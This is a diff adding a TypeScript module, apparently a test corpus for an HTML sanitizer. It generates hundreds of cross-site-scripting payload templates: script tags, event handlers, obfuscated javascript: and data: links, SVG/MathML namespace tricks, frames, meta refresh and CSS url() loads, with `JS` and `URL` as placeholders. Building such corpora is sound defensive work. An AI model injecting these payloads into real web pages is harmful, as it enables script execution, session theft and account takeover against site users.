@@ -1,0 +1,210 @@
+/*
+ * Hostile HTML by grammar (xss-corpus.ts), first half: the elements and addresses that run or fetch.
+ * In every template `JS` stands for the call that must never run and `URL` for an address that must never be asked for.
+ */
+export type Families = Record<string, readonly string[]>;
+export const times = (...lists: (readonly string[])[]): string[][] =>
+  lists.reduce<string[][]>((rows, list) => rows.flatMap((row) => list.map((one) => [...row, one])), [[]]);
+export const IMG = '<img src=x: onerror=JS>';
+
+const SCRIPT = [
+  '<script>JS</script>',
+  '<SCRIPT>JS</SCRIPT>',
+  '<script\n>JS</script\n>',
+  '<script/x>JS</script/x>',
+  '<script >JS</script >',
+  '<script\ftype=module>JS</script>',
+  '<script type="text/javascript">JS</script>',
+  '<script type=text/jscript>JS</script>',
+  '<script language=javascript1.2>JS</script>',
+  '<script async defer src=URL.js></script>',
+  '<script src="URL.js"></script>',
+  '<script src=\'URL.js\' integrity=""></script>',
+  '<script src=data:text/javascript,JS></script>',
+  '<script src="data:;base64,B64"></script>',
+  '<script>/*</p>*/JS//',
+  '<script>JS',
+  '<scr<script>ipt>JS</scr</script>ipt>',
+  '<<script>JS//<</script>',
+  '<script><!--\nJS\n--></script>',
+  '<script>eval("JS")</script>',
+  '<script>setTimeout("JS")</script>',
+  '<script>Function("JS")()</script>',
+  '<script>new Image().src="URL";JS</script>',
+  '<script type=importmap>{"imports":{"x":"URL.js"}}</script><script type=module>import "x"</script>',
+];
+
+const CARRIERS = [
+  ['img src=x:', 'onerror'],
+  ['img src=URL', 'onload'],
+  ['svg', 'onload'],
+  ['body', 'onload'],
+  ['iframe', 'onload'],
+  ['video src=x:', 'onerror'],
+  ['audio src=x:', 'onerror'],
+  ['video><source src=x:', 'onerror'],
+  ['object data=x:', 'onerror'],
+  ['input autofocus', 'onfocus'],
+  ['textarea autofocus', 'onfocus'],
+  ['select autofocus', 'onfocus'],
+  ['button', 'onclick'],
+  ['details open', 'ontoggle'],
+  ['marquee', 'onstart'],
+  ['p tabindex=0', 'onfocus'],
+  ['a href=#', 'onclick'],
+  ['td', 'onclick'],
+  ['blockquote', 'onmouseover'],
+  ['h2', 'onpointerenter'],
+  ['li', 'ondblclick'],
+  ['x-y', 'onmouseenter'],
+  ['style', 'onload'],
+  ['link rel=stylesheet href=URL', 'onerror'],
+  ['dialog open', 'onclick'],
+  ['video autoplay src=URL', 'onloadstart'],
+] as const;
+const WRITINGS: readonly ((carrier: string, event: string) => string)[] = [
+  (c, e) => `<${c} ${e}=JS>`,
+  (c, e) => `<${c} ${e.toUpperCase()}="JS">`,
+  (c, e) => `<${c}\t${e}\n=\f'JS' x>`,
+  (c, e) => `<${c.replaceAll(' ', '/')}/${e}="&#${'_'.charCodeAt(0)};JS">`.replace('&#95;JS', 'ENT'),
+];
+const HANDLERS = CARRIERS.flatMap(([carrier, event]) => WRITINGS.map((write) => write(carrier, event)));
+
+const SCHEMES = [
+  'javascript:JS',
+  'JaVaScRiPt:JS',
+  ' javascript:JS',
+  '&#1;&#9;javascript:JS',
+  'java&#9;script:JS',
+  'java&NewLine;script:JS',
+  'jav\nascript:JS',
+  '&#106;&#x61;vascript:JS',
+  '&#0000106avascript:JS',
+  'javascript&colon;JS',
+  'javascript&#58;JS',
+  'javascript://x%0AJS',
+  'javascript:&#47;&#47;%0d%0aJS',
+  'vbscript:JS',
+  'data:text/html,<script>JS</script>',
+  'data:text/html;base64,HTM64',
+  'data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=JS>',
+  'view-source:javascript:JS',
+  'feed:javascript:JS',
+  'JAVASCRIPT&#x3A;void(JS)',
+];
+const LINKS = SCHEMES.map((scheme) => `<a href="${scheme}">enlace</a>`);
+const OTHER_LINKS = times(
+  [
+    '<iframe src="U"></iframe>',
+    '<embed src="U">',
+    '<object data="U"></object>',
+    '<form action="U"><button>ir</button></form>',
+    '<form><button formaction="U">ir</button></form>',
+    '<map><area href="U">zona</map>',
+    '<svg><a xlink:href="U"><text y=20>ir</text></a></svg>',
+    '<svg><a href="U"><text y=20>ir</text></a></svg>',
+    '<math href="U"><mi>ir</mi></math>',
+    '<a href="URL" ping="U">ir</a>',
+    '<img src="U">',
+    '<blockquote cite="U">x</blockquote>',
+    '<base href="U"><a href="/x">ir</a>',
+  ],
+  ['javascript:JS', 'data:text/html,<script>JS</script>', 'java&Tab;script&colon;JS'],
+).map(([carrier = '', scheme = '']) => carrier.replace('U"', `${scheme}"`));
+
+const SVG = [
+  '<svg><animate onbegin=JS attributeName=x dur=1s></svg>',
+  '<svg><set onbegin=JS attributeName=x></svg>',
+  '<svg><animate attributeName=href values=javascript:JS /><a id=x><text y=20>x</text></a></svg>',
+  '<svg><a><animate attributeName=href to=javascript:JS begin=0s fill=freeze /><text y=20>x</text></a></svg>',
+  '<svg><a><set attributeName="xlink:href" to="javascript:JS"/><rect width=9 height=9 /></a></svg>',
+  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>JS</script></svg>#x"/></svg>',
+  `<svg><foreignObject>${IMG}</foreignObject></svg>`,
+  `<svg><foreignObject><iframe srcdoc="<script>JS</script>"></iframe></foreignObject></svg>`,
+  '<svg><image href=x: onerror=JS /></svg>',
+  '<svg><image href=URL /></svg>',
+  '<svg><feImage href=URL /></svg>',
+  '<svg><style>@import "URL";</style></svg>',
+  '<svg><script xlink:href=URL.js /></svg>',
+  '<svg><script>JS</script></svg>',
+  '<svg><script>&#74;S</script><desc><script>JS</script></desc></svg>',
+  `<svg><title>${IMG}</title></svg>`,
+  `<svg><desc><svg onload=JS></desc></svg>`,
+  '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">JS</handler></svg>',
+  '<svg xmlns:x="http://www.w3.org/1999/xhtml"><x:script>JS</x:script></svg>',
+  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="JS"/>',
+];
+const MATH = [
+  `<math><mtext>${IMG}</mtext></math>`,
+  `<math><mi//xlink:href="URL">${IMG}</mi></math>`,
+  '<math><maction actiontype="statusline" xlink:href="javascript:JS">x</maction></math>',
+  `<math><annotation-xml encoding="text/html">${IMG}</annotation-xml></math>`,
+  '<math><annotation-xml encoding="application/xhtml+xml"><script>JS</script></annotation-xml></math>',
+  `<math><semantics><annotation-xml encoding="TEXT/HTML"><svg onload=JS></annotation-xml></semantics></math>`,
+  '<math><script>JS</script></math>',
+  `<math><mglyph><style><!--</style>${IMG}--></style></mglyph></math>`,
+];
+
+const HEAD = [
+  '<meta http-equiv=refresh content="0;url=javascript:JS">',
+  '<meta http-equiv=refresh content="0;url=data:text/html,<script>JS</script>">',
+  `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'"><script>JS</script>`,
+  '<meta charset=utf-7>+ADw-script+AD4-JS+ADw-/script+AD4-',
+  '<base href="URL/"><script src="a.js"></script>',
+  '<link rel=stylesheet href="URL.css">',
+  '<link rel=preload as=script href="URL.js">',
+  '<link rel=modulepreload href="URL.js">',
+  '<link rel=prefetch href="URL">',
+  '<link rel=icon href="URL">',
+  '<link rel=import href="URL">',
+  '<link rel=manifest href="URL">',
+];
+const FRAMES = [
+  '<iframe srcdoc="<script>JS</script>"></iframe>',
+  '<iframe srcdoc="&lt;script&gt;JS&lt;/script&gt;"></iframe>',
+  '<iframe srcdoc="&lt;img src=x: onerror=JS&gt;" sandbox="allow-scripts allow-same-origin"></iframe>',
+  '<iframe srcdoc=\'<svg onload="JS">\'></iframe>',
+  '<iframe srcdoc="<iframe srcdoc=&quot;<script>JS</script>&quot;></iframe>"></iframe>',
+  '<iframe name="JS" src="javascript:eval(name)"></iframe>',
+  '<iframe src="URL"></iframe>',
+  '<iframe/src="data:text/html,<svg onload=JS>"></iframe>',
+  '<frameset><frame src="javascript:JS"></frameset>',
+  '<frameset onload=JS><frame></frameset>',
+  '<object data="data:text/html,<script>JS</script>"></object>',
+  '<object type="text/html" data="URL"></object>',
+  '<embed src="URL" type="text/html">',
+  '<applet code="URL"></applet>',
+  '<portal src="URL"></portal>',
+  '<fencedframe src="URL"></fencedframe>',
+];
+const CSS_RULES = [
+  'background:url(URL)',
+  'list-style:url("URL")',
+  'border-image:url(URL) 1',
+  'content:url(URL)',
+  'width:expression(JS)',
+  '-moz-binding:url(URL#x)',
+  'background:\\75\\72\\6c(URL)',
+];
+const CSS = [
+  ...times(['p', 'td', 'h2'], CSS_RULES).map(
+    ([tag = '', css = '']) => `<${tag} style='${css};display:block'>x</${tag}>`,
+  ),
+  '<style>@import "URL";</style>',
+  '<style>*{background:url(URL)}</style>',
+  '<style>@font-face{font-family:a;src:url(URL)}p{font-family:a}</style><p>x</p>',
+  '<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart=JS>x</p>',
+  '<style>p{transition:1s}</style><p ontransitionrun=JS>x</p>',
+  '<style><!--</style><script>JS</script>--></style>',
+];
+export const ELEMENTS: Families = {
+  script: SCRIPT,
+  manejadores: HANDLERS,
+  enlaces: LINKS,
+  direcciones: OTHER_LINKS,
+  svg: SVG,
+  mathml: MATH,
+  cabecera: HEAD,
+  marcos: FRAMES,
+  css: CSS,
+};
